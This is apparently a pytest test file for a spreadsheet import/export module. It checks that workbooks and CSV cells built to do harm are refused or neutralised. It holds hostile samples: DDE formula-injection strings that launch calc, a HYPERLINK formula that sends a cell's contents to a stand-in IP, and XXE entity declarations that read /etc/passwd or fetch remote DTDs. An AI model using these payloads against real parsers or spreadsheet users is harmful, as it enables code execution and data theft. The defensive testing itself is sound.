"""Workbooks and cells made to do harm, on the way in and on the way out: one clear refusal each, or harmless text."""

import csv
import io
import re
import zipfile

import pytest
from hypothesis import given
from hypothesis import strategies as st

from brokercoach.kit.spreadsheets import UnreadableFile, guard, read_table, unguard, write_csv, write_xlsx
from tests.kit.test_spreadsheets import workbook

SHEET = "xl/worksheets/sheet1.xml"
HEAD = '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
NAMES = (
    '<row r="1"><c r="A1" t="inlineStr"><is><t>Name</t></is></c><c r="B1" t="inlineStr"><is><t>Area</t></is></c></row>'
)
TAIL = "</sheetData></worksheet>"
ATTACKS = [
    "=1+1",
    '=HYPERLINK("http://192.0.2.1/?"&A1,"more")',
    "=cmd|'/c calc'!A1",
    "+cmd|'/c calc'!A1",
    "-2+3+cmd|'/c calc'!A1",
    "@SUM(1+1)*cmd|'/c calc'!A1",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "'=1+1",
    "''=1+1",
]


def with_part(data, contents, name=SHEET, renamed=None):
    """The workbook with another sheet in place of its own, perhaps under another name."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for part in old.namelist():
            held = old.read(part)
            if renamed:
                held = held.replace(b"worksheets/sheet1.xml", renamed.encode())
            if part != name:
                new.writestr(part, held)
        new.writestr(f"xl/{renamed}" if renamed else name, contents)
    return out.getvalue()


def sheet(rows):
    return with_part(workbook(["Name", "x"]), HEAD + rows + TAIL)


def refusal(data, filename="caseload.xlsx"):
    with pytest.raises(UnreadableFile) as no:
        read_table(data, filename)
    assert str(no.value).endswith(".")
    return str(no.value)


def test_a_plain_sheet_made_so_is_read():
    row = '<row r="2"><c r="A2" t="inlineStr"><is><t>Hine</t></is></c></row>'
    assert [one.cells for one in read_table(sheet(NAMES + row), "a.xlsx").rows] == [("Hine", "")]


@pytest.mark.parametrize(
    "trap",
    [
        '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
        '<?xml version="1.0"?><!DOCTYPE x SYSTEM "http://192.0.2.1/x.dtd">',
        '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY % a SYSTEM "http://192.0.2.1/x">%a;]>',
    ],
    ids=["a file of ours", "a definition elsewhere", "a parameter"],
)
@pytest.mark.parametrize("renamed", [None, "worksheets/sheet1.dat"], ids=["xml", "another name"])
def test_entities_are_refused_whatever_the_part_is_called(trap, renamed):
    rows = NAMES + '<row r="2"><c r="A2" t="inlineStr"><is><t>&a;</t></is></c></row>'
    data = with_part(workbook(["Name", "x"]), trap + HEAD + rows + TAIL, renamed=renamed)
    assert "could do harm" in refusal(data)


def test_entities_in_another_alphabet_are_refused():
    trap = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
    assert "could do harm" in refusal(with_part(workbook(["Name", "x"]), (trap + HEAD + TAIL).encode("utf-16")))


def test_a_sheet_that_unpacks_to_hundreds_of_megabytes_is_refused():
    assert "could do harm" in refusal(sheet(NAMES + "<row/>" * 40_000_000))


def test_a_cell_at_the_far_edge_of_many_rows_is_refused():
    """16,384 places a row: a file of a few kilobytes would fill the memory."""
    rows = "".join(f'<row r="{n}"><c r="XFD{n}"><v>1</v></c></row>' for n in range(2, 20_000))
    assert "far to the right" in refusal(sheet(NAMES + rows))


def test_many_rows_of_nothing_at_the_far_edge_are_refused():
    rows = "".join(f'<row r="{n}"><c r="XFD{n}" s="0"/></row>' for n in range(2, 20_000))
    assert "far to the right" in refusal(sheet(NAMES + rows))


def test_a_wide_empty_edge_alone_does_not_hinder():
    rows = '<row r="2"><c r="A2" t="inlineStr"><is><t>Hine</t></is></c><c r="XFD2" s="0"/></row>'
    assert [one.cells for one in read_table(sheet(NAMES + rows), "a.xlsx").rows] == [("Hine", "")]


def test_a_row_far_below_is_refused():
    assert "far below" in refusal(sheet(NAMES + '<row r="1048576"><c r="A1048576"><v>1</v></c></row>'))


def test_claimed_dimensions_are_not_believed():
    told = HEAD.replace("<sheetData>", '<dimension ref="A1:XFD1048576"/><sheetData>')
    assert read_table(with_part(workbook(["Name", "x"]), told + NAMES + TAIL), "a.xlsx").headers == ("Name", "Area")


@pytest.mark.parametrize("state", ["hidden", "veryHidden"])
def test_a_workbook_of_hidden_sheets_alone_is_refused(state):
    data = workbook(["Name", "x"])
    with zipfile.ZipFile(io.BytesIO(data)) as parts:
        book = parts.read("xl/workbook.xml").replace(b'state="visible"', f'state="{state}"'.encode())
    assert "no visible sheet" in refusal(with_part(data, book, "xl/workbook.xml"))


def test_formulas_come_in_as_the_text_they_are_and_are_pointed_at():
    table = read_table(workbook(["Name", "Area"], ["=WEBSERVICE(A1)", "=cmd|'/c calc'!A1"]), "a.xlsx")
    assert table.rows[0].cells == ("=WEBSERVICE(A1)", "=cmd|'/c calc'!A1")
    assert "read as text" in table.warnings[0]


@pytest.mark.parametrize("cell", ATTACKS)
def test_no_cell_leaves_as_a_formula_and_each_comes_back(cell):
    assert not guard(cell).startswith(("=", "+", "-", "@", "＝", "＋", "－", "＠", "\t", "\r", "\n"))
    assert unguard(guard(cell)) == cell
    [_, line] = b"".join(write_csv([["Name", "Area"], [cell, "Ōtāhuhu"]])).decode("utf-8-sig").split("\r\n", 1)
    assert line.lstrip('"').startswith("'")
    with zipfile.ZipFile(io.BytesIO(write_xlsx([["Name", "Area"], [cell, "x"]]))) as parts:
        written = parts.read(SHEET).decode()
    assert "<f" not in written
    assert re.findall(r'<c r="A2"[^>]*t="(\w+)"', written) == ["inlineStr"]


def test_a_sheet_named_like_an_attack_is_a_name():
    data = write_xlsx([["Name", "Area"]], sheet="=cmd|'/c calc'!A1 [x]:*?/\\")
    assert read_table(data, "a.xlsx").headers == ("Name", "Area")


CELLS = st.text(alphabet="a;=+-@\"',\t\n\r|1 ", max_size=12)


@given(table=st.lists(st.tuples(CELLS, CELLS, CELLS), min_size=1, max_size=4))
def test_split_elsewhere_than_at_commas_no_cell_begins_a_formula_and_each_comes_back(table):
    """A program that splits at semicolons or tabs sees other cells than we wrote: `a;=1` would be two."""
    sent = b"".join(write_csv([("Name", "Area", "Note"), *table])).decode("utf-8-sig")
    for sign in ",;\t":
        seen = [cell for row in csv.reader(io.StringIO(sent, newline=""), delimiter=sign) for cell in row]
        assert not [cell for cell in seen if cell.startswith(("=", "+", "-", "@"))]
    assert all(unguard(guard(cell)) == cell for row in table for cell in row)


def test_a_formula_after_a_semicolon_comes_back_from_both_kinds_of_file():
    told = [("Hine; =1", "a;=1"), ("x;'=1", 'y;"=2'), ("o'; '-3", "'=4")]
    head = ("Name", "Area")
    for data, name in ((b"".join(write_csv([head, *told])), "a.csv"), (write_xlsx([head, *told]), "a.xlsx")):
        assert [row.cells for row in read_table(data, name).rows] == told
    assert b"=1" not in b"".join(write_csv([["a;=1"]])).replace(b"'=1", b"")
